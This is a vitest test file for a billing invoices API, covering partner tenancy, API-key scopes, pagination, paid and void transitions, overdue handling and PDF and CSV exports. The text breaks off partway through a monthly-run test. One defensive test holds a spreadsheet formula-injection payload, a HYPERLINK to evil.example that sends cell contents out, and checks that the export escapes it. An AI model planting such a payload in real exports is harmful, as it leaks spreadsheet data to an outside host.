import { and, eq, sql } from "drizzle-orm";
import { describe, expect, it } from "vitest";
import * as listRoute from "@/app/api/v1/billing/invoices/route";
import * as itemRoute from "@/app/api/v1/billing/invoices/[id]/route";
import * as markPaidRoute from "@/app/api/v1/billing/invoices/[id]/mark-paid/route";
import * as voidRoute from "@/app/api/v1/billing/invoices/[id]/void/route";
import * as totalsRoute from "@/app/api/v1/billing/invoices/totals/route";
import { events, invoices, usageCounters } from "@/db/schema";
import { callRoute } from "@/lib/testing/call-route";
import { createApiKey, createContact, createPartnerWithMember, createUser, sessionCookie } from "@/lib/testing/fixtures";
import { useTestDb } from "@/lib/testing/test-db";
import { issueInvoices } from "../invoice-run";
import { putPricing } from "../pricing-plans";
import { PricingPlanInput } from "../schemas";
import { INVOICE_CSV_HEADER } from "./invoice-csv";
import { listInvoices } from "./invoice-item";
import { markInvoicePaid } from "./invoice-lifecycle";
import { markOverdueInvoices } from "./mark-overdue";
import { adminPrincipal, insertInvoice } from "./test-fixtures";

const db = useTestDb();

type Creds = { cookie?: string; bearer?: string };
const list = (creds: Creds, query = "") => callRoute(listRoute.GET, { path: `/api/v1/billing/invoices${query}`, ...creds });
const get = (id: string, creds: Creds, query = "", headers?: Record<string, string>) =>
  callRoute(itemRoute.GET, { path: `/api/v1/billing/invoices/${id}${query}`, params: { id }, headers, ...creds });
const markPaid = (id: string, creds: Creds, body: unknown) =>
  callRoute(markPaidRoute.POST, { path: `/api/v1/billing/invoices/${id}/mark-paid`, params: { id }, body, ...creds });
const voidIt = (id: string, creds: Creds, body: unknown) => callRoute(voidRoute.POST, { path: `/api/v1/billing/invoices/${id}/void`, params: { id }, body, ...creds });

const ids = (res: { body: { data: { id: string }[] } }) => res.body.data.map((i) => i.id);

async function adminCookie() {
  return { cookie: await sessionCookie((await createUser(db(), { admin: true })).id) };
}

/** RFC 4180 rows → fields (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  const endField = () => {
    row.push(field);
    field = "";
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") endField();
    else if (c === "\r" && text[i + 1] === "\n") {
      endField();
      rows.push(row);
      row = [];
      i++;
    } else field += c;
  }
  if (field || row.length) {
    endField();
    rows.push(row);
  }
  return rows;
}

describe("GET /billing/invoices and /billing/invoices/{id}: tenancy and scopes", () => {
  it("shows a partner its own invoices only; another partner's is 404 and absent from the list", async () => {
    const a = await createPartnerWithMember(db());
    const b = await createPartnerWithMember(db());
    const mine = await insertInvoice(db(), {
      partnerId: a.partner.id,
      lines: [
        { kind: "flat_fee", description: "Platform fee, monthly", amountCents: 10_000 },
        { kind: "usage", description: "API calls 1,001–11,000, tier 1", quantity: 10_000, unitAmountCents: 50, amountCents: 500 },
      ],
      taxCents: 866,
    });
    const theirs = await insertInvoice(db(), { partnerId: b.partner.id });
    const cookie = await sessionCookie(a.user.id);

    const res = await list({ cookie });
    expect(res.status, res.text).toBe(200);
    expect(ids(res)).toEqual([mine.id]);
    expect(res.body.nextCursor).toBeNull();
    expect(res.body.data[0]).toEqual({
      id: mine.id,
      number: mine.number,
      partnerId: a.partner.id,
      period: mine.period,
      status: "open",
      currency: "USD",
      lines: [
        { kind: "flat_fee", description: "Platform fee, monthly", quantity: 1, unitAmountCents: 10_000, amountCents: 10_000, metadata: {} },
        { kind: "usage", description: "API calls 1,001–11,000, tier 1", quantity: 10_000, unitAmountCents: 50, amountCents: 500, metadata: {} },
      ],
      subtotalCents: 10_500,
      taxCents: 866,
      totalCents: 11_366,
      issuedAt: mine.issuedAt!.toISOString(),
      dueAt: mine.dueAt!.toISOString(),
      paidAt: null,
      paymentReference: null,
      voidedAt: null,
      voidReason: null,
      runId: null,
      createdAt: mine.createdAt.toISOString(),
    });

    const one = await get(mine.id, { cookie });
    expect(one.status, one.text).toBe(200);
    expect(one.body).toEqual(res.body.data[0]);

    const other = await get(theirs.id, { cookie });
    expect(other.status).toBe(404);
    expect(other.body.code).toBe("NOT_FOUND");
    // Not even the document variants leak it.
    expect((await get(theirs.id, { cookie }, "?format=pdf")).status).toBe(404);
    expect((await get(theirs.id, { cookie }, "?format=csv")).status).toBe(404);

    // Naming the other partner in the filter is refused, not quietly widened: the 404 of an
    // unknown partner, so the filter cannot tell which partner ids exist.
    for (const partnerId of [b.partner.id, "00000000-0000-4000-8000-000000000000"]) {
      const sneaky = await list({ cookie }, `?partnerId=${partnerId}`);
      expect(sneaky.status, sneaky.text).toBe(404);
      expect(sneaky.body.code).toBe("NOT_FOUND");
      expect(sneaky.text).not.toContain(b.partner.name);
    }
    expect(ids(await list({ cookie }, `?partnerId=${a.partner.id}`))).toEqual([mine.id]);

    // Admins see both, and can narrow to one partner.
    const admin = await adminCookie();
    const all = await list(admin, "?limit=100");
    expect(ids(all)).toEqual(expect.arrayContaining([mine.id, theirs.id]));
    expect(ids(await list(admin, `?partnerId=${b.partner.id}`))).toEqual([theirs.id]);
    expect((await get(theirs.id, admin)).status).toBe(200);
  });

  it("404s ids that are not uuids or do not exist", async () => {
    const admin = await adminCookie();
    expect((await get("not-a-uuid", admin)).status).toBe(404);
    expect((await get("00000000-0000-4000-8000-000000000000", admin)).status).toBe(404);
    expect((await markPaid("not-a-uuid", admin, { reference: "x" })).status).toBe(404);
    expect((await voidIt("00000000-0000-4000-8000-000000000000", admin, { reason: "x" })).status).toBe(404);
  });

  it("lets an API key with read:billing read, and refuses one without it (403)", async () => {
    const { partner } = await createPartnerWithMember(db());
    const inv = await insertInvoice(db(), { partnerId: partner.id });
    const reader = await createApiKey(db(), partner.id, { scopes: ["read:billing"] });
    const wildcard = await createApiKey(db(), partner.id, { scopes: ["read:*"] });
    const noBilling = await createApiKey(db(), partner.id, { scopes: ["read:keys", "write:marketplace"] });

    expect(ids(await list({ bearer: reader.key }))).toEqual([inv.id]);
    expect((await get(inv.id, { bearer: reader.key })).status).toBe(200);
    expect(ids(await list({ bearer: wildcard.key }))).toEqual([inv.id]);

    const denied = await list({ bearer: noBilling.key });
    expect(denied.status).toBe(403);
    expect(denied.body.code).toBe("INSUFFICIENT_SCOPE");
    expect((await get(inv.id, { bearer: noBilling.key })).status).toBe(403);
    expect((await get(inv.id, { bearer: noBilling.key }, "?format=pdf")).status).toBe(403);
    expect((await list({})).status).toBe(401);
  });

  it("filters by status and period, and rejects bad filters with 400/422 naming the field", async () => {
    const { partner, user } = await createPartnerWithMember(db());
    const open = await insertInvoice(db(), { partnerId: partner.id, period: "2026-01" });
    const paid = await insertInvoice(db(), { partnerId: partner.id, period: "2026-02", status: "paid" });
    const cookie = await sessionCookie(user.id);
    expect(ids(await list({ cookie }, "?status=paid"))).toEqual([paid.id]);
    expect(ids(await list({ cookie }, "?status=open"))).toEqual([open.id]);
    expect(ids(await list({ cookie }, "?period=2026-01"))).toEqual([open.id]);
    expect(ids(await list({ cookie }, "?period=2026-01&status=paid"))).toEqual([]);
    for (const q of ["?status=draft", "?period=2026-13", "?period=202601", "?limit=0", "?cursor=nope"]) {
      const res = await list({ cookie }, q);
      expect([400, 422], `${q}: ${res.text}`).toContain(res.status);
      expect(res.body.errors?.length, q).toBeGreaterThan(0);
    }
  });

  it("pages newest first by (created_at, id) with a keyset cursor: limit 2 over 5 invoices, no duplicates, no gaps", async () => {
    const { partner, user } = await createPartnerWithMember(db());
    const base = Date.UTC(2026, 5, 1);
    const made = [];
    // Two share a created_at: the id breaks the tie, and the cursor must not skip or repeat either.
    // issued_at runs the other way, so an order by issue date would fail.
    for (const [i, offset] of [0, 1, 1, 2, 3].entries()) {
      made.push(
        await insertInvoice(db(), {
          partnerId: partner.id,
          period: `2025-0${i + 1}`,
          createdAt: new Date(base + offset * 86_400_000),
          issuedAt: new Date(base - offset * 86_400_000),
        }),
      );
    }
    const cookie = await sessionCookie(user.id);
    const expected = [...made]
      .sort((x, y) => y.createdAt.getTime() - x.createdAt.getTime() || (x.id < y.id ? 1 : -1))
      .map((r) => r.id);

    const seen: string[] = [];
    const sizes: number[] = [];
    let cursor: string | null = null;
    for (let page = 0; page < 5; page++) {
      const res = await list({ cookie }, `?limit=2${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ""}`);
      expect(res.status, res.text).toBe(200);
      sizes.push(res.body.data.length);
      seen.push(...ids(res));
      for (const inv of res.body.data) expect(inv.lines).toHaveLength(1);
      cursor = res.body.nextCursor;
      if (!cursor) break;
    }
    expect(sizes).toEqual([2, 2, 1]);
    expect(new Set(seen).size).toBe(5);
    expect(seen).toEqual(expected);
  });

  it("fetches the lines of a whole page in one query, not one per invoice", async () => {
    const { partner } = await createPartnerWithMember(db());
    for (let i = 0; i < 4; i++) await insertInvoice(db(), { partnerId: partner.id, period: `2024-0${i + 1}` });
    const d = db();
    const statements: string[] = [];
    // Count the statements the list sends by wrapping the driver's entry point for this one call.
    const session = (d as unknown as { session: { prepareQuery: (...a: unknown[]) => unknown } }).session;
    const original = session.prepareQuery.bind(session);
    session.prepareQuery = (...args: unknown[]) => {
      statements.push((args[0] as { sql: string }).sql);
      return original(...args);
    };
    try {
      const page = await listInvoices(d, { ...adminPrincipal(), isPlatformAdmin: false, scopes: ["read:billing"], partnerId: partner.id }, { limit: 10 });
      expect(page.data).toHaveLength(4);
    } finally {
      session.prepareQuery = original;
    }
    expect(statements.filter((s) => /invoice_line_items/.test(s))).toHaveLength(1);
    expect(statements).toHaveLength(2);
  });
});

describe("mark-paid and void: admin-only, once", () => {
  it("refuses partners, even owners and keys with write:billing (403)", async () => {
    const { partner, user } = await createPartnerWithMember(db());
    const inv = await insertInvoice(db(), { partnerId: partner.id });
    const owner = { cookie: await sessionCookie(user.id) };
    const writer = await createApiKey(db(), partner.id, { scopes: ["write:billing"] });
    for (const creds of [owner, { bearer: writer.key }]) {
      const paid = await markPaid(inv.id, creds, { reference: "wire 1" });
      expect(paid.status, paid.text).toBe(403);
      expect((await voidIt(inv.id, creds, { reason: "mine" })).status).toBe(403);
    }
    const [row] = await db().select().from(invoices).where(eq(invoices.id, inv.id));
    expect(row.status).toBe("open");
  });

  it("marks an open invoice paid and publishes billing.payment_received once, with the exact payload", async () => {
    const { partner } = await createPartnerWithMember(db());
    const inv = await insertInvoice(db(), { partnerId: partner.id, lines: [{ amountCents: 12_345 }], taxCents: 1_019, currency: "EUR" });
    const admin = await adminCookie();
    const paidAt = "2026-11-15T08:00:00.000Z";
    const res = await markPaid(inv.id, admin, { reference: "  SEPA-2026-11-0042 ", paidAt });
    expect(res.status, res.text).toBe(200);
    expect(res.body).toMatchObject({ id: inv.id, number: inv.number, status: "paid", paidAt, paymentReference: "SEPA-2026-11-0042", totalCents: 13_364 });

    const published = await db()
      .select()
      .from(events)
      .where(and(eq(events.type, "billing.payment_received"), sql`${events.data}->>'invoiceId' = ${inv.id}`));
    expect(published).toHaveLength(1);
    expect(published[0].partnerId).toBe(partner.id);
    expect(published[0].createdBy).toBe("system");
    expect(published[0].data).toEqual({ invoiceId: inv.id, partnerId: partner.id, amountCents: 13_364, currency: "EUR", receivedAt: paidAt });

    // Paid is final: neither paid again nor voided, and no second event.
    const again = await markPaid(inv.id, admin, { reference: "dup" });
    expect(again.status).toBe(409);
    expect(again.body.code).toBe("INVALID_TRANSITION");
    const voided = await voidIt(inv.id, admin, { reason: "too late" });
    expect(voided.status).toBe(409);
    expect(voided.body.code).toBe("INVALID_TRANSITION");
    const [row] = await db().select().from(invoices).where(eq(invoices.id, inv.id));
    expect(row).toMatchObject({ status: "paid", paymentReference: "SEPA-2026-11-0042", voidedAt: null, voidReason: null });
    expect(await db().$count(events, and(eq(events.type, "billing.payment_received"), sql`${events.data}->>'invoiceId' = ${inv.id}`))).toBe(1);
  });

  it("defaults paidAt to now and refuses one in the future (422 naming paidAt)", async () => {
    const { partner } = await createPartnerWithMember(db());
    const inv = await insertInvoice(db(), { partnerId: partner.id });
    const admin = await adminCookie();
    const future = await markPaid(inv.id, admin, { reference: "r", paidAt: new Date(Date.now() + 86_400_000).toISOString() });
    expect(future.status).toBe(422);
    expect(future.body.errors.map((e: { path: string }) => e.path)).toContain("paidAt");
    expect((await markPaid(inv.id, admin, {})).status).toBe(422);
    expect((await markPaid(inv.id, admin, { reference: "   " })).status).toBe(422);

    const before = Date.now();
    const res = await markPaid(inv.id, admin, { reference: "r" });
    expect(res.status, res.text).toBe(200);
    expect(Date.parse(res.body.paidAt)).toBeGreaterThanOrEqual(before - 1000);
    expect(Date.parse(res.body.paidAt)).toBeLessThanOrEqual(Date.now());
  });

  it("publishes once when two admins mark the same invoice paid at the same time", async () => {
    const { partner } = await createPartnerWithMember(db());
    const inv = await insertInvoice(db(), { partnerId: partner.id });
    const admin = await adminCookie();
    const results = await Promise.all([markPaid(inv.id, admin, { reference: "first" }), markPaid(inv.id, admin, { reference: "second" })]);
    expect(results.map((r) => r.status).sort()).toEqual([200, 409]);
    const winner = results.find((r) => r.status === 200)!;
    const [row] = await db().select().from(invoices).where(eq(invoices.id, inv.id));
    expect(row.paymentReference).toBe(winner.body.paymentReference);
    expect(await db().$count(events, and(eq(events.type, "billing.payment_received"), sql`${events.data}->>'invoiceId' = ${inv.id}`))).toBe(1);
  });

  it("lets one of several concurrent mark-paid calls win: the row lock makes the rest see it paid", async () => {
    const { partner } = await createPartnerWithMember(db());
    const inv = await insertInvoice(db(), { partnerId: partner.id });
    const outcomes = await Promise.allSettled(
      Array.from({ length: 6 }, (_, i) => markInvoicePaid(db(), adminPrincipal(), inv.id, { reference: `race-${i}` })),
    );
    expect(outcomes.filter((o) => o.status === "fulfilled")).toHaveLength(1);
    for (const o of outcomes) if (o.status === "rejected") expect((o.reason as { code?: string }).code).toBe("INVALID_TRANSITION");
    expect(await db().$count(events, and(eq(events.type, "billing.payment_received"), sql`${events.data}->>'invoiceId' = ${inv.id}`))).toBe(1);
  });

  it("voids an open invoice keeping its number; void is final", async () => {
    const { partner, user } = await createPartnerWithMember(db());
    const inv = await insertInvoice(db(), { partnerId: partner.id });
    const admin = await adminCookie();
    expect((await voidIt(inv.id, admin, {})).status).toBe(422);
    const res = await voidIt(inv.id, admin, { reason: "Issued with the wrong plan" });
    expect(res.status, res.text).toBe(200);
    expect(res.body).toMatchObject({ id: inv.id, number: inv.number, status: "void", voidReason: "Issued with the wrong plan", paidAt: null });
    expect(Date.parse(res.body.voidedAt)).toBeGreaterThan(Date.now() - 60_000);

    const paid = await markPaid(inv.id, admin, { reference: "r" });
    expect(paid.status).toBe(409);
    expect(paid.body.code).toBe("INVALID_TRANSITION");
    expect((await voidIt(inv.id, admin, { reason: "again" })).status).toBe(409);
    expect(await db().$count(events, and(eq(events.type, "billing.payment_received"), sql`${events.data}->>'invoiceId' = ${inv.id}`))).toBe(0);

    // The partner still sees it, with its number.
    const seen = await get(inv.id, { cookie: await sessionCookie(user.id) });
    expect(seen.body).toMatchObject({ status: "void", number: inv.number });
  });

  it("settles an overdue invoice: overdue → paid, and overdue → void", async () => {
    const { partner } = await createPartnerWithMember(db());
    const a = await insertInvoice(db(), { partnerId: partner.id, status: "overdue" });
    const b = await insertInvoice(db(), { partnerId: partner.id, status: "overdue" });
    const admin = await adminCookie();
    const paid = await markPaid(a.id, admin, { reference: "late wire" });
    expect(paid.status, paid.text).toBe(200);
    expect(paid.body.status).toBe("paid");
    const voided = await voidIt(b.id, admin, { reason: "written off" });
    expect(voided.status, voided.text).toBe(200);
    expect(voided.body.status).toBe("void");
  });

  it("has no PATCH or DELETE: issued invoices never change (405)", async () => {
    const { partner } = await createPartnerWithMember(db());
    const inv = await insertInvoice(db(), { partnerId: partner.id });
    const admin = await adminCookie();
    for (const method of ["PATCH", "DELETE", "PUT"] as const) {
      const res = await callRoute(itemRoute[method], { method, path: `/api/v1/billing/invoices/${inv.id}`, params: { id: inv.id }, body: { totalCents: 1 }, ...admin });
      expect(res.status).toBe(405);
    }
    const [row] = await db().select().from(invoices).where(eq(invoices.id, inv.id));
    expect(row.totalCents).toBe(inv.totalCents);
  });
});

describe("markOverdueInvoices", () => {
  it("flips only open invoices past their due date, in one sweep", async () => {
    const { partner } = await createPartnerWithMember(db());
    const now = new Date("2020-06-01T00:00:00.000Z");
    const past = new Date("2020-05-31T23:59:59.999Z");
    const openPast = await insertInvoice(db(), { partnerId: partner.id, issuedAt: new Date("2020-05-01T00:00:00Z"), dueAt: past });
    const openExactlyDue = await insertInvoice(db(), { partnerId: partner.id, issuedAt: new Date("2020-05-01T00:00:00Z"), dueAt: now });
    const openFuture = await insertInvoice(db(), { partnerId: partner.id, issuedAt: new Date("2020-05-01T00:00:00Z"), dueAt: new Date("2020-07-01T00:00:00Z") });
    const paidPast = await insertInvoice(db(), { partnerId: partner.id, status: "paid", issuedAt: new Date("2020-04-01T00:00:00Z"), dueAt: past });
    const voidPast = await insertInvoice(db(), { partnerId: partner.id, status: "void", issuedAt: new Date("2020-04-01T00:00:00Z"), dueAt: past });
    const overduePast = await insertInvoice(db(), { partnerId: partner.id, status: "overdue", issuedAt: new Date("2020-04-01T00:00:00Z"), dueAt: past });

    expect(await markOverdueInvoices(db(), now)).toEqual({ overdue: 1 });
    const status = async (id: string) => (await db().select({ s: invoices.status }).from(invoices).where(eq(invoices.id, id)))[0].s;
    expect(await status(openPast.id)).toBe("overdue");
    expect(await status(openExactlyDue.id)).toBe("open");
    expect(await status(openFuture.id)).toBe("open");
    expect(await status(paidPast.id)).toBe("paid");
    expect(await status(voidPast.id)).toBe("void");
    expect(await status(overduePast.id)).toBe("overdue");
    // A second run finds nothing more to do.
    expect(await markOverdueInvoices(db(), now)).toEqual({ overdue: 0 });
  });
});

describe("overdue as soon as the due date passes", () => {
  it("reads an open invoice past dueAt as overdue (item, list filter, totals) before the sweep writes it", async () => {
    const { partner, user } = await createPartnerWithMember(db());
    const cookie = await sessionCookie(user.id);
    const lapsed = await insertInvoice(db(), { partnerId: partner.id, period: "2025-01", issuedAt: new Date(Date.now() - 40 * 86_400_000), dueAt: new Date(Date.now() - 60_000), lines: [{ amountCents: 1_111 }] });
    const current = await insertInvoice(db(), { partnerId: partner.id, period: "2025-02", dueAt: new Date(Date.now() + 86_400_000), lines: [{ amountCents: 2_222 }] });
    const swept = await insertInvoice(db(), { partnerId: partner.id, period: "2025-03", status: "overdue", dueAt: new Date(Date.now() - 86_400_000), lines: [{ amountCents: 4_444 }] });
    const paid = await insertInvoice(db(), { partnerId: partner.id, period: "2025-04", status: "paid", dueAt: new Date(Date.now() - 86_400_000), lines: [{ amountCents: 8_888 }] });

    const one = await get(lapsed.id, { cookie });
    expect(one.status, one.text).toBe(200);
    expect(one.body.status).toBe("overdue");
    expect((await get(current.id, { cookie })).body.status).toBe("open");
    expect((await get(paid.id, { cookie })).body.status).toBe("paid");

    expect(ids(await list({ cookie }, "?status=overdue")).sort()).toEqual([lapsed.id, swept.id].sort());
    expect(ids(await list({ cookie }, "?status=open"))).toEqual([current.id]);
    expect(ids(await list({ cookie }, "?status=paid"))).toEqual([paid.id]);
    const listed = await list({ cookie });
    expect(Object.fromEntries(listed.body.data.map((i: { id: string; status: string }) => [i.id, i.status]))).toEqual({
      [lapsed.id]: "overdue",
      [current.id]: "open",
      [swept.id]: "overdue",
      [paid.id]: "paid",
    });

    const totals = await callRoute(totalsRoute.GET, { path: "/api/v1/billing/invoices/totals", cookie });
    expect(totals.status, totals.text).toBe(200);
    expect(totals.body.totals).toEqual([
      { status: "open", count: 1, totalCents: 2_222 },
      { status: "paid", count: 1, totalCents: 8_888 },
      { status: "void", count: 0, totalCents: 0 },
      { status: "overdue", count: 2, totalCents: 5_555 },
    ]);

    // Reading does not write: the sweep still persists it, and settling works either way.
    const [row] = await db().select({ s: invoices.status }).from(invoices).where(eq(invoices.id, lapsed.id));
    expect(row.s).toBe("open");
    const settled = await markPaid(lapsed.id, await adminCookie(), { reference: "late wire" });
    expect(settled.status, settled.text).toBe(200);
    expect(settled.body.status).toBe("paid");
  });

  it("a partner naming another partner in the totals gets 404", async () => {
    const a = await createPartnerWithMember(db());
    const b = await createPartnerWithMember(db());
    await insertInvoice(db(), { partnerId: b.partner.id });
    const peek = await callRoute(totalsRoute.GET, { path: `/api/v1/billing/invoices/totals?partnerId=${b.partner.id}`, cookie: await sessionCookie(a.user.id) });
    expect(peek.status, peek.text).toBe(404);
    expect(peek.body.code).toBe("NOT_FOUND");
    const admin = await callRoute(totalsRoute.GET, { path: `/api/v1/billing/invoices/totals?partnerId=${b.partner.id}`, ...(await adminCookie()) });
    expect(admin.body.totals.find((t: { status: string }) => t.status === "open")).toEqual({ status: "open", count: 1, totalCents: 49_900 });
  });
});

describe("documents: PDF and CSV", () => {
  it("serves {id}.pdf and {id}.csv, the contract's path forms; another partner's is 404", async () => {
    const { partner, user } = await createPartnerWithMember(db());
    const other = await createPartnerWithMember(db());
    const inv = await insertInvoice(db(), { partnerId: partner.id, lines: [{ kind: "flat_fee", description: "Platform fee, monthly", amountCents: 12_300 }] });
    const theirs = await insertInvoice(db(), { partnerId: other.partner.id });
    const cookie = await sessionCookie(user.id);

    const pdf = await get(`${inv.id}.pdf`, { cookie });
    expect(pdf.status, pdf.text.slice(0, 200)).toBe(200);
    expect(pdf.headers.get("content-type")).toBe("application/pdf");
    expect(pdf.headers.get("content-disposition")).toBe(`attachment; filename="${inv.number}.pdf"`);
    expect(pdf.text.startsWith("%PDF-")).toBe(true);

    // The suffix names the file: it wins over an Accept header asking for something else.
    const csv = await get(`${inv.id}.csv`, { cookie }, "", { accept: "application/pdf" });
    expect(csv.status, csv.text).toBe(200);
    expect(csv.headers.get("content-type")).toMatch(/^text\/csv/);
    expect(csv.headers.get("content-disposition")).toBe(`attachment; filename="${inv.number}.csv"`);
    const rows = parseCsv(csv.text);
    expect(Number(rows.find((r) => r[2] === "total")![6])).toBe(12_300);

    for (const segment of [`${theirs.id}.pdf`, `${theirs.id}.csv`, `${inv.id}.xlsx`, `${inv.id}.pdf.pdf`, ".pdf"]) {
      const res = await get(segment, { cookie });
      expect(res.status, segment).toBe(404);
      expect(res.body.code, segment).toBe("NOT_FOUND");
    }
  });

  it("serves a PDF for ?format=pdf and for Accept: application/pdf", async () => {
    const { partner, user } = await createPartnerWithMember(db(), { name: "Acme Insurance Tech, Inc." });
    await createContact(db(), partner.id, { kind: "billing", name: "Dana Payables", email: "ap@acme.example", isPrimary: true });
    const inv = await insertInvoice(db(), {
      partnerId: partner.id,
      lines: [
        { kind: "flat_fee", description: "Platform fee, monthly (Nov 11–Nov 30, 20 of 30 days)", amountCents: 6_667, metadata: { interval: "month", flatFeeCents: 10_000, days: 20, daysInPeriod: 30 } },
        {
          kind: "usage",
          description: "API calls 1,001–11,000, tier 1 ($0.50 per 1,000)",
          quantity: 10_000,
          unitAmountCents: 50,
          amountCents: 500,
          metadata: { mode: "graduated", tier: 1, upTo: 10_000, fromCall: 1_001, toCall: 11_000, unitAmountCentsPer1000: 50, flatAmountCents: 0, calls: 10_000, totalCalls: 25_000, includedCalls: 1_000 },
        },
      ],
      taxCents: 591,
    });
    const cookie = await sessionCookie(user.id);
    for (const [query, headers] of [["?format=pdf", undefined], ["", { accept: "application/pdf" }]] as const) {
      const res = await get(inv.id, { cookie }, query, headers);
      expect(res.status, res.text.slice(0, 200)).toBe(200);
      expect(res.headers.get("content-type")).toBe("application/pdf");
      expect(res.headers.get("content-disposition")).toBe(`attachment; filename="${inv.number}.pdf"`);
      expect(res.text.startsWith("%PDF-")).toBe(true);
      expect(res.text.trimEnd().endsWith("%%EOF")).toBe(true);
      const size = Number(res.headers.get("content-length"));
      expect(size).toBeGreaterThan(1_500);
      expect(size).toBeLessThan(200_000);
      expect(res.headers.get("cache-control")).toContain("no-store");
    }
  });

  it("builds a many-line PDF across pages, and survives names its fonts cannot draw", async () => {
    const { partner, user } = await createPartnerWithMember(db(), { name: "株式会社ポルティコ Ωmega Łódź" });
    const lines = Array.from({ length: 90 }, (_, i) => ({
      kind: "usage" as const,
      description: `API calls tier ${i + 1} — ${"long description ".repeat(i % 4)}`,
      quantity: 1000 + i,
      unitAmountCents: 25,
      amountCents: 25 + i,
    }));
    const inv = await insertInvoice(db(), { partnerId: partner.id, lines });
    const res = await get(inv.id, { cookie: await sessionCookie(user.id) }, "?format=pdf");
    expect(res.status, res.text.slice(0, 200)).toBe(200);
    expect(res.text.startsWith("%PDF-")).toBe(true);
    // Three or more pages of lines.
    expect((res.text.match(/\/Type \/Page\b/g) ?? []).length).toBeGreaterThanOrEqual(3);
  });

  it("serves CSV whose line rows add up exactly to the subtotal and total", async () => {
    const { partner, user } = await createPartnerWithMember(db());
    const inv = await insertInvoice(db(), {
      partnerId: partner.id,
      lines: [
        { kind: "flat_fee", description: "Platform fee, monthly", amountCents: 49_900 },
        { kind: "usage", description: 'API calls 101–300, tier 1 ("starter", $0.50 per 1,000)', quantity: 200, unitAmountCents: 50, amountCents: 10 },
        { kind: "usage", description: "API calls\n301–1,000, tier 2", quantity: 700, unitAmountCents: 25, amountCents: 118 },
        { kind: "minimum", description: "Minimum commitment top-up", amountCents: 1 },
      ],
      taxCents: 4_128,
    });
    for (const [query, headers] of [["?format=csv", undefined], ["", { accept: "text/csv" }]] as const) {
      const res = await get(inv.id, { cookie: await sessionCookie(user.id) }, query, headers);
      expect(res.status, res.text).toBe(200);
      expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
      expect(res.headers.get("content-disposition")).toBe(`attachment; filename="${inv.number}.csv"`);
      expect(res.text.endsWith("\r\n")).toBe(true);
      const rows = parseCsv(res.text);
      expect(rows[0]).toEqual([...INVOICE_CSV_HEADER]);
      const body = rows.slice(1);
      expect(body.map((r) => r[2])).toEqual(["flat_fee", "usage", "usage", "minimum", "subtotal", "tax", "total"]);
      for (const r of body) expect(r).toHaveLength(7);
      expect(body.every((r) => r[0] === inv.number && r[1] === inv.period)).toBe(true);
      expect(body[1][3]).toBe('API calls 101–300, tier 1 ("starter", $0.50 per 1,000)');
      expect(body[2][3]).toBe("API calls\n301–1,000, tier 2");
      const amount = (kind: string) => Number(body.find((r) => r[2] === kind)![6]);
      const lineSum = body.slice(0, 4).reduce((s, r) => s + Number(r[6]), 0);
      expect(lineSum).toBe(50_029);
      expect(amount("subtotal")).toBe(lineSum);
      expect(amount("tax")).toBe(4_128);
      expect(amount("total")).toBe(lineSum + 4_128);
      expect(amount("total")).toBe(inv.totalCents);
    }
  });

  it("neutralizes spreadsheet formulas in CSV cells", async () => {
    const { partner, user } = await createPartnerWithMember(db());
    const inv = await insertInvoice(db(), {
      partnerId: partner.id,
      lines: [
        { description: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', amountCents: 100 },
        { description: "+1+2", amountCents: 200 },
        { description: "-2+3", amountCents: 300 },
        { description: "@SUM(A1:A2)", amountCents: 400 },
      ],
    });
    const res = await get(inv.id, { cookie: await sessionCookie(user.id) }, "?format=csv");
    expect(res.status).toBe(200);
    expect(res.text).not.toMatch(/(^|,|\r\n)"?=HYPERLINK\(/);
    const descriptions = parseCsv(res.text)
      .slice(1, 5)
      .map((r) => r[3]);
    expect(descriptions).toEqual([`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "'+1+2", "'-2+3", "'@SUM(A1:A2)"]);
  });

  it("negotiates: format beats Accept, JSON by default and for */*, q-values decide", async () => {
    const { partner, user } = await createPartnerWithMember(db());
    const inv = await insertInvoice(db(), { partnerId: partner.id });
    const cookie = await sessionCookie(user.id);
    const type = async (query: string, accept?: string) =>
      (await get(inv.id, { cookie }, query, accept ? { accept } : undefined)).headers.get("content-type") ?? "";
    expect(await type("")).toMatch(/^application\/json/);
    expect(await type("", "*/*")).toMatch(/^application\/json/);
    expect(await type("", "text/html,application/xhtml+xml,*/*;q=0.8")).toMatch(/^application\/json/);
    expect(await type("?format=json", "application/pdf")).toMatch(/^application\/json/);
    expect(await type("?format=csv", "application/pdf")).toMatch(/^text\/csv/);
    expect(await type("", "application/json;q=0.5, text/csv")).toMatch(/^text\/csv/);
    expect(await type("", "application/pdf;q=0.2, application/json")).toMatch(/^application\/json/);
    expect(await type("", "application/pdf, */*;q=0.1")).toBe("application/pdf");
    const bad = await get(inv.id, { cookie }, "?format=xlsx");
    expect([400, 422]).toContain(bad.status);
    expect(bad.body.errors.map((e: { path: string }) => e.path)).toContain("format");
  });
});

describe("invoices issued by the monthly run", () => {
  it("reads, documents and settles an invoice from issueInvoices; a voided period can be issued again with a new number", async () => {
    const { partner, user } = await createPartnerWithMember(db());
    const admin = adminPrincipal();
    await putPricing(
      db(),
      admin,
      partner.id,
      PricingPlanInput.parse({
        model: "hybrid",
        flatFeeCents: 10_000,
        includedCalls: 1_000,
        tiers: [
          { upTo: 10_000, unitAmountCentsPer1000: 50 },
          { upTo: null, unitAmountCentsPer1000: 25, flatAmountCents: 100 },
        ],
        taxRateBps: 825,
        effectiveFrom: "2026-01-01",
      }),
    );
    // 25,000 calls answered 2xx in March (24,000 billable) and some errors that are not billed.
    await db()
      .insert(usageCounters)
      .values([
        { partnerId: partner.id, day: "2026-03-02", routeGroup: "keys", statusClass: "2xx", count: 15_000 },
        { partnerId: partner.id, day: "2026-03-31", routeGroup: "events", statusClass: "2xx", count: 10_000 },
        { partnerId: partner.id, day: "2026-03-31", routeGroup: "events", statusClass: "4xx", count: 7_777 },
        { partnerId: partner.id, day: "2026-04-01", routeGroup: "events", statusClass: "2xx", count: 99_999 },
      ]);
    expect(await issueInvoices(db(), { period: "2026-03", partnerIds: [partner.id], now: new Date() })).toMatchObject({ created: 1 });

